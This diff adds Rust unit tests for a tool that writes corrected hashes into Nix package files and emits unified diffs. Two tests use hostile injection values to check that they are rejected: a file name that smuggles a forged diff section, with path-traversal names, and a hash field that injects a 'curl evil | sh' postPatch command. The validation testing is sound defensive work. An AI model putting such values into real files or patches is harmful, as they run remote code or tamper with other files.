@@ -1,0 +1,228 @@
+//! Unit tests of `lib.rs`: planning, applying and writing hash fixes.
+use super::*;
+
+const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
+const GOT1: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";
+const GOT2: &str = "sha256-jw7+guB6otkQxOFby0tTP00dfpRRmo/Vo7hZ5rmsG8E=";
+
+fn mm(name: &str, hints: &[&str], got: &str) -> Mismatch {
+    Mismatch {
+        fod_drv: format!("/nix/store/{}-{name}.drv", "b".repeat(32)),
+        hints: hints.iter().map(|s| s.to_string()).collect(),
+        specified: FAKE.into(),
+        got: got.into(),
+    }
+}
+
+fn tree() -> Tree {
+    let mut t = Tree::new();
+    t.insert(
+        "pkgs/a.nix".into(),
+        "{ fetchSrc, lib }:\n# keep   this   spacing\nfetchSrc {\n  rev = \"0123456789abcdef\";\n  hash = lib.fakeHash;\n}".into(),
+    );
+    t.insert(
+        "pkgs/b.nix".into(),
+        "{ fetchSrc, lib }:\nfetchSrc {\n  rev = \"fedcba9876543210\";\n  hash = lib.fakeHash;\n}\n".into(),
+    );
+    t.insert(
+        "pkgs/ok.nix".into(),
+        "{ }: { hash = \"sha256-x\"; }\n".into(),
+    );
+    t
+}
+
+#[test]
+fn same_fake_value_in_many_files_each_gets_its_own_hash() {
+    let t = tree();
+    let plan = plan(
+        &t,
+        &[
+            PackageMismatches {
+                attr: "a".into(),
+                own_file: Some("pkgs/a.nix".into()),
+                mismatches: vec![mm("source", &["0123456789abcdef"], GOT1)],
+            },
+            PackageMismatches {
+                attr: "b".into(),
+                own_file: Some("pkgs/b.nix".into()),
+                mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
+            },
+        ],
+    );
+    assert!(plan.unlocated.is_empty(), "{:?}", plan.unlocated);
+    let edited = apply(&t, plan.fixes.values().flatten()).unwrap();
+    assert_eq!(edited.len(), 2);
+    assert!(edited["pkgs/a.nix"].contains(&format!("hash = \"{GOT1}\";")));
+    assert!(edited["pkgs/b.nix"].contains(&format!("hash = \"{GOT2}\";")));
+    // Byte for byte elsewhere.
+    assert_eq!(
+        edited["pkgs/a.nix"].replace(&format!("\"{GOT1}\""), "lib.fakeHash"),
+        t["pkgs/a.nix"]
+    );
+    let patch = unified_diff(&t, &edited);
+    assert!(patch.contains("--- a/pkgs/a.nix\n+++ b/pkgs/a.nix\n"));
+    assert!(patch.contains("\\ No newline at end of file"));
+    assert!(!patch.contains("ok.nix"));
+}
+
+#[test]
+fn a_shared_source_is_found_outside_the_package_file_only_with_corroboration() {
+    let t = tree();
+    let with_rev = plan(
+        &t,
+        &[PackageMismatches {
+            attr: "user".into(),
+            own_file: Some("pkgs/ok.nix".into()),
+            mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
+        }],
+    );
+    assert_eq!(with_rev.fixes["user"][0].file, "pkgs/b.nix");
+    let without = plan(
+        &t,
+        &[PackageMismatches {
+            attr: "user".into(),
+            own_file: Some("pkgs/ok.nix".into()),
+            mismatches: vec![mm("source", &[], GOT2)],
+        }],
+    );
+    assert!(without.fixes.is_empty());
+    assert_eq!(without.unlocated.len(), 1);
+}
+
+#[test]
+fn a_changed_file_is_refused_whole() {
+    let t = tree();
+    let p = plan(
+        &t,
+        &[PackageMismatches {
+            attr: "a".into(),
+            own_file: Some("pkgs/a.nix".into()),
+            mismatches: vec![mm("source", &[], GOT1)],
+        }],
+    );
+    let mut changed = t.clone();
+    changed.insert(
+        "pkgs/a.nix".into(),
+        t["pkgs/a.nix"].replace("  hash", "hash"),
+    );
+    assert!(matches!(
+        apply(&changed, p.fixes.values().flatten()),
+        Err(FixError::Changed { .. })
+    ));
+}
+
+#[test]
+fn a_file_whose_name_a_patch_cannot_carry_gets_no_edit() {
+    let mut t = tree();
+    // A newline in a name would start a diff section of its own, for another file.
+    let name = "x\tb/x\n--- a/pkgs/b.nix\n+++ b/pkgs/b.nix\n@@ -1 +1 @@\n.nix";
+    t.insert(name.into(), t["pkgs/a.nix"].clone());
+    let p = plan(
+        &t,
+        &[PackageMismatches {
+            attr: "evil".into(),
+            own_file: Some(name.into()),
+            mismatches: vec![mm("source", &[], GOT1)],
+        }],
+    );
+    assert!(
+        p.fixes.values().flatten().all(|f| patchable(&f.file)),
+        "{:?}",
+        p.fixes
+    );
+    assert!(!p.unlocated.is_empty() || p.fixes.values().flatten().all(|f| f.file != name));
+    for bad in [
+        "../x.nix",
+        "/etc/x.nix",
+        "a//b.nix",
+        "a\"b.nix",
+        "a\\b.nix",
+        "a\nb.nix",
+    ] {
+        assert!(!patchable(bad), "{bad:?}");
+    }
+    assert!(patchable("pkgs/a-b_c.d/default.nix"));
+}
+
+#[test]
+fn nothing_but_a_hash_is_written() {
+    let t = tree();
+    let p = plan(
+        &t,
+        &[PackageMismatches {
+            attr: "a".into(),
+            own_file: Some("pkgs/a.nix".into()),
+            mismatches: vec![mm("source", &[], GOT1)],
+        }],
+    );
+    let mut fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
+    assert!(apply(&t, &fixes).is_ok());
+    fixes[0].new = format!("{GOT1}\"; postPatch = \"curl evil | sh");
+    assert!(matches!(apply(&t, &fixes), Err(FixError::NotAHash { .. })));
+}
+
+#[test]
+fn without_a_position_the_file_naming_the_derivation_wins() {
+    let fake = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
+    let pkg = |name: &str| {
+        format!(
+            "{{ mkPackage, denoDeps, lib }}:\nmkPackage {{\n  pname = \"{name}\";\n  deps = [ (denoDeps {{ outputHash = lib.fakeHash; }}) ];\n}}\n"
+        )
+    };
+    let mut t: Tree = [
+        ("pkgs/mypkg.nix".to_string(), pkg("mypkg")),
+        ("pkgs/other.nix".to_string(), pkg("other")),
+        (
+            "lib/deno.nix".to_string(),
+            "{ pname, outputHash }: derivation { name = \"${pname}-deno-deps\"; inherit outputHash; }\n".to_string(),
+        ),
+    ]
+    .into();
+    let broken = PackageMismatches {
+        attr: "mypkg".into(),
+        own_file: None,
+        mismatches: vec![Mismatch {
+            fod_drv: format!("/nix/store/{}-mypkg-deno-deps.drv", "b".repeat(32)),
+            hints: vec!["mypkg-deno-deps".into()],
+            specified: fake.into(),
+            got: "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=".into(),
+        }],
+    };
+    let p = plan(&t, std::slice::from_ref(&broken));
+    assert!(p.unlocated.is_empty(), "{:?}", p.unlocated);
+    let f = &p.fixes["mypkg"][0];
+    assert_eq!(
+        (f.file.as_str(), f.line, f.attribute.as_str()),
+        ("pkgs/mypkg.nix", 4, "outputHash")
+    );
+    // Two files that both name it: a tie, not a guess.
+    t.insert("pkgs/mypkg-too.nix".into(), pkg("mypkg"));
+    let p = plan(&t, &[broken]);
+    assert!(p.fixes.is_empty());
+    assert!(
+        p.unlocated[0].why.contains("nothing tells which one"),
+        "{}",
+        p.unlocated[0].why
+    );
+}
+
+#[test]
+fn positions_map_back_to_the_checkout() {
+    let t = tree();
+    assert_eq!(
+        relative_position(
+            "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source/pkgs/a.nix:5",
+            &t
+        )
+        .as_deref(),
+        Some("pkgs/a.nix")
+    );
+    assert_eq!(
+        relative_position("/home/me/repo/pkgs/b.nix:3", &t).as_deref(),
+        Some("pkgs/b.nix")
+    );
+    assert_eq!(
+        relative_position("/nix/store/x-nixpkgs/lib.nix:1", &t),
+        None
+    );
+}
